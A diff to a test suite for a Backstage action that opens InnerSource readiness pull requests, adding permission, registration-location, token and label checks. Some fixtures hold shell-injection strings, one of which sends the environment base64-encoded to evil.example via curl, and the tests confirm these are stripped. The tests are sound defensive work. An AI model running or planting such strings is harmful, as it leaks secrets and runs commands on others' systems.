@@ -4,6 +4,7 @@ import {
 } from '@backstage/backend-test-utils';
 import type { Entity } from '@backstage/catalog-model';
 import { ConfigReader } from '@backstage/config';
+import { InputError, NotAllowedError } from '@backstage/errors';
 import { catalogServiceMock } from '@backstage/plugin-catalog-node/testUtils';
 import type {
   ProjectSummary,
@@ -11,8 +12,12 @@ import type {
 } from '@innersource-for-backstage/plugin-innersource-common';
 import { setupServer } from 'msw/node';
 import {
+  ActionInput,
+  fakePermissions,
   innersourceClient,
+  ProposeRule,
   projectSummary,
+  recordRequests,
   runAction,
   serveInnerSourceProject,
 } from '../__testUtils__/actionHarness';
@@ -35,6 +40,11 @@ const component: Entity = {
     title: 'Payment gateway',
     description: 'Card and wallet payments for every checkout in the company',
     annotations: {
+      // registered from its own repository's default branch
+      'backstage.io/managed-by-location':
+        'url:https://github.com/acme/payment-gateway/blob/main/catalog-info.yaml',
+      'backstage.io/managed-by-origin-location':
+        'url:https://github.com/acme/payment-gateway/blob/main/catalog-info.yaml',
       'github.com/project-slug': 'acme/payment-gateway',
       'innersource/skills': 'java,kotlin',
       'innersource/help-wanted-labels': 'help wanted,contributions welcome',
@@ -84,39 +94,53 @@ function innersourceApi(project: ProjectSummary | 404) {
   return serveInnerSourceProject(server, project);
 }
 
+/** What the permission policy was asked in the last run. */
+let asked: ReturnType<typeof fakePermissions>['asked'];
+
 function makeAction(
   entities: Entity[] = [component, group],
-  allowedRepositories: string[] = [],
+  rule?: ProposeRule,
 ) {
   const integrations = new ConfigReader({
     integrations: { github: [{ host: 'github.com', token: 'ghp_portal' }] },
   });
+  const permissions = fakePermissions(rule);
+  asked = permissions.asked;
   return createReadinessPullRequestAction({
     catalog: catalogServiceMock({ entities }),
     auth: mockServices.auth(),
+    permissions: permissions.permissions,
     innersource: innersourceClient(),
     github: GithubReadinessRepository.fromConfig(integrations),
     labels: {
       helpWanted: ['help wanted'],
       goodFirstIssue: ['good first issue'],
     },
-    allowedRepositories,
   });
 }
 
 async function run(
-  input: { entityRef: string; branchName?: string },
+  input: ActionInput,
   options: {
     isDryRun?: boolean;
     entities?: Entity[];
-    allowedRepositories?: string[];
+    /** Who may propose changes for which entity; everyone by default. */
+    rule?: ProposeRule;
+    user?: string;
   } = {},
 ) {
-  return runAction(
-    makeAction(options.entities, options.allowedRepositories),
-    input,
-    options,
-  );
+  return runAction(makeAction(options.entities, options.rule), input, options);
+}
+
+/** The component with other annotations (the slug is kept unless replaced). */
+function withAnnotations(annotations: Record<string, string>): Entity {
+  return {
+    ...component,
+    metadata: {
+      ...component.metadata,
+      annotations: { ...component.metadata.annotations, ...annotations },
+    },
+  };
 }
 
 const EXPECTED_FILES = [
@@ -129,12 +153,19 @@ const EXPECTED_FILES = [
 
 describe('innersource:readiness:pull-request', () => {
   let github: FakeGithubRepository;
+  /** Every request that reached the network, whoever it was for. */
+  let requests: Array<{ method: string; url: string }>;
 
   beforeEach(() => {
     github = new FakeGithubRepository('acme', 'payment-gateway');
     github.paths.add('README.md');
     github.labels.add('help wanted');
     github.use(server);
+    requests = recordRequests(server);
+  });
+
+  afterEach(() => {
+    server.events.removeAllListeners();
   });
 
   it('opens one pull request with the files the failing checks ask for, and creates the missing labels', async () => {
@@ -221,8 +252,16 @@ describe('innersource:readiness:pull-request', () => {
       ref: 'refs/heads/innersource-readiness',
       sha: 'c0ffee1',
     });
+    // Asked once, for the initiator and this entity, before anything else.
+    expect(asked).toEqual([
+      {
+        permission: 'innersource.readiness.propose',
+        resourceRef: 'component:default/payment-gateway',
+        user: 'user:default/jane',
+      },
+    ]);
     expect(pull.body).toMatchObject({
-      title: 'Make Payment gateway InnerSource-ready',
+      title: 'Make component:default/payment-gateway InnerSource-ready',
       head: 'innersource-readiness',
       base: 'main',
     });
@@ -373,30 +412,299 @@ describe('innersource:readiness:pull-request', () => {
     expect(github.writes).toEqual([]);
   });
 
-  it("writes nothing to a private repository, since the portal's token could reach what the entity's author cannot", async () => {
+  it.each([false, true])(
+    'refuses a user the policy does not let propose changes for the entity, before any request (dry run: %s)',
+    async isDryRun => {
+      innersourceApi(summary(['contributing']));
+
+      const attempt = run(
+        { entityRef: 'component:default/payment-gateway' },
+        {
+          isDryRun,
+          user: 'user:default/mallory',
+          // the shipped policy: the entity's owners (here, jane's team)
+          rule: user => user === 'user:default/jane',
+        },
+      );
+
+      await expect(attempt).rejects.toThrow(NotAllowedError);
+      await expect(attempt).rejects.toThrow(
+        'you may not propose readiness changes for component:default/payment-gateway: innersource.readiness.propose is granted to its owners',
+      );
+      expect(asked).toEqual([
+        {
+          permission: 'innersource.readiness.propose',
+          resourceRef: 'component:default/payment-gateway',
+          user: 'user:default/mallory',
+        },
+      ]);
+      // Not GitHub, not even the InnerSource backend.
+      expect(requests).toEqual([]);
+    },
+  );
+
+  it.each<[string, Record<string, string>, boolean]>([
+    [
+      "another team's repository",
+      {
+        'backstage.io/managed-by-location':
+          'url:https://github.com/evil/catalog/blob/main/catalog-info.yaml',
+      },
+      false,
+    ],
+    [
+      'a repository whose name starts like it',
+      {
+        'backstage.io/managed-by-location':
+          'url:https://github.com/acme/payment-gateway-docs/blob/main/catalog-info.yaml',
+      },
+      false,
+    ],
+    [
+      'another host with the same owner/name',
+      {
+        'backstage.io/managed-by-location':
+          'url:https://github.evil.example/acme/payment-gateway/blob/main/catalog-info.yaml',
+      },
+      true,
+    ],
+    [
+      'the repository page itself, not a file in it',
+      {
+        'backstage.io/managed-by-location':
+          'url:https://github.com/acme/payment-gateway',
+      },
+      false,
+    ],
+    [
+      'a file on the backend (the portal config)',
+      { 'backstage.io/managed-by-location': 'file:/srv/catalog/all.yaml' },
+      true,
+    ],
+    [
+      'another repository, only its origin location inside this one',
+      {
+        'backstage.io/managed-by-location':
+          'url:https://github.com/evil/catalog/blob/main/all.yaml',
+        'backstage.io/managed-by-origin-location':
+          'url:https://github.com/acme/payment-gateway/blob/main/catalog-info.yaml',
+      },
+      false,
+    ],
+  ])(
+    'refuses an entity registered from %s, before any request',
+    async (_case, annotations, isDryRun) => {
+      innersourceApi(summary(['contributing']));
+
+      const attempt = run(
+        { entityRef: 'component:default/payment-gateway' },
+        { isDryRun, entities: [withAnnotations(annotations), group] },
+      );
+
+      await expect(attempt).rejects.toThrow(NotAllowedError);
+      await expect(attempt).rejects.toThrow(
+        'component:default/payment-gateway was not registered from a catalog file in github.com/acme/payment-gateway (its backstage.io/managed-by-location): readiness changes are proposed only to the repository an entity was registered from',
+      );
+      expect(requests).toEqual([]);
+    },
+  );
+
+  it('refuses, after reading the repository and before writing, an entity registered from a file not on the default branch (a pull request or a fork can push one)', async () => {
     innersourceApi(summary(['contributing']));
-    github.visibility = 'PRIVATE';
+    const fromPullRequest = withAnnotations({
+      'backstage.io/managed-by-location':
+        'url:https://github.com/acme/payment-gateway/blob/refs/pull/7/head/catalog-info.yaml',
+    });
 
     await expect(
-      run({ entityRef: 'component:default/payment-gateway' }),
+      run(
+        { entityRef: 'component:default/payment-gateway' },
+        { entities: [fromPullRequest, group] },
+      ),
     ).rejects.toThrow(
-      'github.com/acme/payment-gateway is private on GitHub, and InnerSource collects only public and internal repositories',
+      'component:default/payment-gateway was registered from a catalog file that is not on main, the default branch of acme/payment-gateway',
     );
-    expect(github.writes).toEqual([]);
+    expect(github.calls.map(c => `${c.method} ${c.path}`)).toEqual([
+      'POST /graphql',
+    ]);
   });
 
-  it('opens the pull request on a private repository innersource.repositories.allow names', async () => {
+  it("writes to a private repository the entity was registered from: the owner's authority decides, not the visibility", async () => {
     innersourceApi(summary(['contributing']));
     github.visibility = 'PRIVATE';
 
-    const outputs = await run(
-      { entityRef: 'component:default/payment-gateway' },
-      { allowedRepositories: ['github.com/acme/*'] },
-    );
+    const outputs = await run({
+      entityRef: 'component:default/payment-gateway',
+    });
 
     expect(outputs.pullRequestUrl).toBe(
       'https://github.com/acme/payment-gateway/pull/42',
     );
+  });
+
+  it("titles the pull request by the entity ref, and keeps the entity's title out of its title and description", async () => {
+    innersourceApi(summary(['contributing']));
+    const hostile = {
+      ...component,
+      metadata: {
+        ...component.metadata,
+        title: 'x"; curl -s evil.example/$(env|base64 -w0); echo "',
+        description: '$(id) `whoami`',
+      },
+    };
+
+    await run(
+      { entityRef: 'component:default/payment-gateway' },
+      { entities: [hostile, group] },
+    );
+
+    const pull = github.calls.find(c => c.path.endsWith('/pulls'))!;
+    expect(pull.body.title).toBe(
+      'Make component:default/payment-gateway InnerSource-ready',
+    );
+    expect(pull.body.body).not.toContain('curl');
+    expect(pull.body.body).not.toContain('$(');
+    expect(pull.body.body).toMatch(
+      /^This pull request adds what the InnerSource readiness checklist of `component:default\/payment-gateway` in Backstage asks for:\n/,
+    );
+  });
+
+  it('asks about, and creates with the pull request, at most 5 labels; the rest are named as left out', async () => {
+    innersourceApi(summary(['contributing']));
+    const many = withAnnotations({
+      'innersource/help-wanted-labels': 'l1,l2,l3,l4,l5,l6,l7',
+    });
+
+    const outputs = await run(
+      { entityRef: 'component:default/payment-gateway' },
+      { entities: [many, group] },
+    );
+
+    const labelVariables = Object.keys(github.calls[0].body.variables).filter(
+      k => /^l\d+$/.test(k),
+    );
+    expect(labelVariables).toEqual(['l0', 'l1', 'l2', 'l3', 'l4']);
+    // 'help wanted' exists: four are created, with the pull request
+    expect(outputs.labels).toEqual(['good first issue', 'l1', 'l2', 'l3']);
+    expect(
+      github.writes
+        .filter(c => c.path.endsWith('/labels'))
+        .map(c => c.body.name),
+    ).toEqual(['good first issue', 'l1', 'l2', 'l3']);
+    expect(outputs.skipped).toEqual(
+      ['l4', 'l5', 'l6', 'l7'].map(
+        l =>
+          `the label "${l}" is left out: one pull request creates at most 5 labels`,
+      ),
+    );
+    expect(outputs.pullRequestUrl).toBe(
+      'https://github.com/acme/payment-gateway/pull/42',
+    );
+  });
+
+  it('creates no label when it proposes no pull request, and says which are missing', async () => {
+    innersourceApi(summary(['goodFirstIssues']));
+    github.paths.add('innersource.json');
+
+    const outputs = await run({
+      entityRef: 'component:default/payment-gateway',
+    });
+
+    expect(github.writes).toEqual([]);
+    expect(outputs.labels).toEqual([]);
+    expect(outputs.skipped).toEqual(
+      ['good first issue', 'contributions welcome'].map(
+        l =>
+          `the label "${l}" is missing, and labels are created only with a pull request, which has no file to add here: create it in the repository`,
+      ),
+    );
+    expect(outputs.pullRequestUrl).toBeUndefined();
+  });
+
+  it('never writes a label name a workflow or a shell could read as more than text', async () => {
+    innersourceApi(summary(['contributing']));
+    const hostile = withAnnotations({
+      'innersource/help-wanted-labels': 'ok label,$(curl evil.example)',
+    });
+
+    const outputs = await run(
+      { entityRef: 'component:default/payment-gateway' },
+      { entities: [hostile, group] },
+    );
+
+    expect(outputs.labels).toEqual(['good first issue', 'ok label']);
+    expect(outputs.skipped).toEqual([
+      'the label "$(curl evil.example)" holds characters other than letters, digits, spaces and . _ : / + -, which the action does not write into a pull request',
+    ]);
+    const pull = github.calls.find(c => c.path.endsWith('/pulls'))!;
+    expect(pull.body.body).not.toContain('curl');
+  });
+
+  it("makes every GitHub request with the user's own token when the template passes one", async () => {
+    innersourceApi(summary(['contributing']));
+
+    const outputs = await run({
+      entityRef: 'component:default/payment-gateway',
+      repoUrl: 'github.com?owner=acme&repo=payment-gateway',
+      token: 'gho_user',
+    });
+
+    expect(outputs.pullRequestUrl).toBe(
+      'https://github.com/acme/payment-gateway/pull/42',
+    );
+    expect(github.calls.map(c => c.authorization)).toEqual(
+      github.calls.map(() => 'token gho_user'),
+    );
+  });
+
+  it('uses the integration when the template passes an empty token (no user credentials were requested)', async () => {
+    innersourceApi(summary(['contributing']));
+
+    await run(
+      { entityRef: 'component:default/payment-gateway', token: '' },
+      { isDryRun: true },
+    );
+
+    expect(github.calls.map(c => c.authorization)).toEqual([
+      'token ghp_portal',
+    ]);
+  });
+
+  it.each<[string, Partial<ActionInput>, string]>([
+    [
+      'a token without the repository it was asked for',
+      { token: 'gho_user' },
+      'token was given without repoUrl: pass the repoUrl of the RepoUrlPicker that asked for the token',
+    ],
+    [
+      'a token asked for another repository',
+      { token: 'gho_user', repoUrl: 'github.com?owner=acme&repo=other' },
+      'repoUrl names github.com/acme/other, but the repository of component:default/payment-gateway is github.com/acme/payment-gateway: pick that one',
+    ],
+    [
+      'a token asked for another host',
+      {
+        token: 'gho_user',
+        repoUrl: 'gitlab.com?owner=acme&repo=payment-gateway',
+      },
+      'repoUrl names gitlab.com/acme/payment-gateway, but the repository of component:default/payment-gateway is github.com/acme/payment-gateway: pick that one',
+    ],
+    [
+      'a repoUrl that names no repository',
+      { repoUrl: 'github.com/acme/payment-gateway' },
+      'repoUrl "github.com/acme/payment-gateway" does not name a repository (host?owner=…&repo=…, as RepoUrlPicker writes it)',
+    ],
+  ])('refuses %s before any request', async (_case, extra, message) => {
+    innersourceApi(summary(['contributing']));
+
+    const attempt = run({
+      entityRef: 'component:default/payment-gateway',
+      ...extra,
+    });
+
+    await expect(attempt).rejects.toThrow(InputError);
+    await expect(attempt).rejects.toThrow(message);
+    expect(requests).toEqual([]);
   });
 
   it('names GitLab as needing integrations.gitlab when the action has no GitLab side', async () => {
